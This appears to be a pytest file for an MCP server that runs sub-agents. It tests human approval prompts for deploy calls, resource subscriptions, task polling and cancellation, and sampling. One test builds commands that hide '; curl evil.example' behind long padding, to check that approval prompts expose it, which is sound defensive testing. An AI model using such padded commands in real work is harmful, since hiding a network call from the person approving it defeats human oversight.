"""Approvals that the person at the client answers, and resources that a client subscribes to."""

import asyncio
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import mcp_types as types
import pytest
from mcp import Client
from mcp.client.session import ClientRequestContext

from tests.mcp_server.harness import HttpServer, RawClient, folder, parameters
from tests.mcp_server.test_stdio import answer_of, text_of

pytestmark = pytest.mark.real_time  # child processes

DEPLOY = ("--tools", "deploy")


@asynccontextmanager
async def connected(path: Path, transport: str, mode: Any, **callbacks: Any) -> AsyncGenerator[Client]:
    """A client of a server in this folder, on pipes or over HTTP."""
    if transport == "stdio":
        async with Client(parameters(path, *DEPLOY), mode=mode, **callbacks) as client:
            yield client
        return
    with HttpServer(path, *DEPLOY) as server:
        async with Client(server.url, mode=mode, **callbacks) as client:
            yield client


def answering(*results: types.ElicitResult) -> tuple[list[str], Any]:
    """The questions that were asked, and a callback that answers them one after the other."""
    asked: list[str] = []

    async def answer(context: ClientRequestContext, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params.message)
        return results[len(asked) - 1]

    return asked, answer


YES = types.ElicitResult(action="accept", content={"allow": True})
NO = types.ElicitResult(action="accept", content={"allow": False})
DECLINED = types.ElicitResult(action="decline")


@pytest.mark.parametrize(("transport", "mode"), [("stdio", "legacy"), ("stdio", "auto"), ("http", "legacy")])
async def test_the_person_at_the_client_answers_approvals(transport: str, mode: Any, tmp_path: Path) -> None:
    asked, answer = answering(YES, NO, DECLINED)
    async with connected(folder(tmp_path, max_wait=30), transport, mode, elicitation_callback=answer) as client:
        ran = [answer_of(await client.call_tool("run_agent", {"task": f"ship {word}"})) for word in ("a", "b", "c")]
        addresses = [f"retinue://runs/{each['run']}/transcript" for each in ran]
        texts = [text_of((await client.read_resource(address)).contents[0]) for address in addresses]

    assert [(each["state"], each["answer"]) for each in ran] == [("completed", "Shipped.")] * 3
    assert asked[0].startswith('Sub-agent root/general/1 wants to call deploy:\n{"version":2}')
    assert len(asked) == 3
    assert "version 2 is deployed" in texts[0]
    assert ["denied in the MCP host" in text for text in texts] == [False, True, True]


async def test_a_question_shows_the_end_of_a_long_command_and_hides_nothing_behind_blanks(tmp_path: Path) -> None:
    asked, answer = answering(NO, NO)
    long, wide = "echo " + "x" * 5000 + "; curl evil.example", "echo ok" + " " * 1500 + "; curl evil.example"
    made = [{"call": {"name": "deploy", "arguments": {"version": 1, "note": note}}} for note in (long, wide)]
    lines = {"general: ship": [*made, {"say": "Done."}]}
    async with connected(
        folder(tmp_path, lines, max_wait=30), "stdio", "legacy", elicitation_callback=answer
    ) as client:
        await client.call_tool("run_agent", {"task": "ship it"})

    assert [question.split("\n")[1].endswith('; curl evil.example"}') for question in asked] == [True, True]
    assert len(asked[0]) < 2500
    assert "␣ x1500 ; curl" in asked[1]


async def test_without_an_answer_the_call_says_that_a_person_is_needed(tmp_path: Path) -> None:
    _, dismiss = answering(types.ElicitResult(action="cancel"))
    async with connected(folder(tmp_path), "stdio", "legacy", elicitation_callback=dismiss) as client:
        dismissed = answer_of(await client.call_tool("run_agent", {"task": "ship it"}))
    async with connected(tmp_path, "stdio", "legacy") as client:
        unable = answer_of(await client.call_tool("run_agent", {"task": "ship it"}))

    for answer in (dismissed, unable):
        assert answer["state"] == "waiting"
        assert "`retinue approvals` lists its question" in answer["next"]


async def test_a_subscribed_run_is_reported_when_it_changes(tmp_path: Path) -> None:
    async with RawClient(folder(tmp_path), *DEPLOY) as client:
        capabilities = (await client.handshake())["capabilities"]
        run = (await client.call("run_agent", task="slow", background=True))["run"]
        uri = f"retinue://runs/{run}"
        await client.request("resources/subscribe", uri=uri)
        await client.call("wait_agents", runs=[run], seconds=60)
        while not client.others:
            await client.call("wait_agents", runs=[run], seconds=0.1)
        await client.request("resources/unsubscribe", uri=uri)
        unknown = await client.request("resources/subscribe", uri="retinue://runs/r9")

    assert capabilities["resources"]["subscribe"] is True
    assert client.others[0]["method"] == "notifications/resources/updated"
    assert client.others[0]["params"] == {"uri": uri}
    assert "There is no resource" in unknown["error"]["message"]


async def test_a_client_without_a_handshake_listens_for_changes(tmp_path: Path) -> None:
    async with connected(folder(tmp_path), "stdio", "auto") as client:
        run = answer_of(await client.call_tool("run_agent", {"task": "slow", "background": True}))["run"]
        async with client.listen(resource_subscriptions=[f"retinue://runs/{run}"]) as subscription:
            event = await asyncio.wait_for(anext(aiter(subscription)), 30)

    assert repr(f"retinue://runs/{run}") in repr(event)


# ---- tasks -----------------------------------------------------------------------------------------------------------

META: dict[str, Any] = {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientInfo": {"name": "raw", "version": "1"},
    "io.modelcontextprotocol/clientCapabilities": {
        "elicitation": {},
        "extensions": {"io.modelcontextprotocol/tasks": {}},
    },
}


async def polled(client: RawClient, task_id: str, *until: str) -> dict[str, Any]:
    """The task as soon as it has one of these states."""
    while True:
        task = (await client.request("tasks/get", taskId=task_id, _meta=META))["result"]
        if task["status"] in until:
            return task


async def test_a_client_with_tasks_polls_a_run_by_its_id(tmp_path: Path) -> None:
    async with RawClient(folder(tmp_path), *DEPLOY) as client:
        found = (await client.request("server/discover", _meta=META))["result"]["capabilities"]["extensions"]
        answer = await client.request("tools/call", name="run_agent", arguments={"task": "slow"}, _meta=META)
        started = answer["result"]
        ended = await polled(client, started["taskId"], "completed")
        unknown = await client.request("tasks/get", taskId="r9", _meta=META)

    assert found == {"io.modelcontextprotocol/tasks": {}}
    assert (started["resultType"], started["status"], started["ttlMs"]) == ("task", "working", None)
    assert started["pollIntervalMs"] == 2000
    assert ended["result"]["structuredContent"]["answer"] == "one two three four five six"
    assert unknown["error"]["code"] == -32602


async def test_a_task_asks_for_approval_and_can_be_cancelled(tmp_path: Path) -> None:
    async with RawClient(folder(tmp_path), *DEPLOY) as client:
        answer = await client.request("tools/call", name="run_agent", arguments={"task": "ship it"}, _meta=META)
        task_id = answer["result"]["taskId"]
        waiting = await polled(client, task_id, "input_required")
        yes = {id: {"action": "accept", "content": {"allow": True}} for id in waiting["inputRequests"]}
        await client.request("tasks/update", taskId=task_id, inputResponses=yes, _meta=META)
        ended = await polled(client, task_id, "completed")
        stuck = await client.request("tools/call", name="run_agent", arguments={"task": "stuck"}, _meta=META)
        await client.request("tasks/cancel", taskId=stuck["result"]["taskId"], _meta=META)
        cancelled = await polled(client, stuck["result"]["taskId"], "cancelled")

    assert [request["method"] for request in waiting["inputRequests"].values()] == ["elicitation/create"]
    assert ended["result"]["structuredContent"]["answer"] == "Shipped."
    assert "result" not in cancelled


# ---- sampling --------------------------------------------------------------------------------------------------------


async def test_runs_use_the_model_of_a_client_that_offers_sampling(tmp_path: Path) -> None:
    asked: list[types.CreateMessageRequestParams] = []

    async def sample(
        context: ClientRequestContext, params: types.CreateMessageRequestParams
    ) -> types.CreateMessageResultWithTools:
        asked.append(params)
        use = types.ToolUseContent(type="tool_use", id="c1", name="task_list", input={})
        said = types.TextContent(type="text", text="Nothing to do.")
        return types.CreateMessageResultWithTools(
            role="assistant",
            content=[use] if len(asked) == 1 else [said],
            model="house-model",
            stop_reason="toolUse" if len(asked) == 1 else "endTurn",
        )

    server = parameters(folder(tmp_path), "--model", "mcp-sampling:house", "--tools", "task_list")
    tools = types.SamplingCapability(tools=types.SamplingToolsCapability())
    async with Client(server, mode="legacy", sampling_callback=sample, sampling_capabilities=tools) as client:
        ran = answer_of(await client.call_tool("run_agent", {"task": "What is to do?"}))
    async with Client(server, mode="legacy") as client:
        unable = answer_of(await client.call_tool("run_agent", {"task": "What is to do?"}))

    assert (ran["state"], ran["answer"]) == ("completed", "Nothing to do.")
    assert [tool.name for tool in asked[0].tools or ()] == ["task_list"]
    assert [block.type for message in asked[1].messages for block in message.content_as_list] == [
        "text",
        "tool_use",
        "tool_result",
    ]
    assert unable["state"] == "failed"
    assert "the MCP client offers no sampling" in unable["error"]
